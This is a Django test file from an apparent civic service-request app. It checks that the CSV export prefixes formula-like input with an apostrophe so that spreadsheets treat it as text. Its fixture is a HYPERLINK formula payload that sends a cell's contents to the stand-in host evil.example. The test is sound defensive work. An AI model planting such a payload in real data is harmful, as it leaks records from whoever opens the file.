"""CitiStat's CSV export is safe to open in a spreadsheet whatever residents typed."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from civic311.service_requests.tests.factories import file_request

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


def test_the_requests_csv_writes_a_typed_formula_as_text(client, supervisor, pothole, roles):
    sr = file_request(pothole, address_string=HYPERLINK, lat="42.3736", long="-71.1097")
    supervisor.groups.add(Group.objects.get(name="Supervisor"))
    client.force_login(supervisor)
    export = client.get(reverse("insights:drilldown"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    [row] = [r for r in rows if r["tracking_number"] == sr.tracking_number]
    assert row["address"] == "'" + HYPERLINK
    assert (row["lat"], row["long"]) == ("42.3736", "-71.1097")  # numbers stay numbers
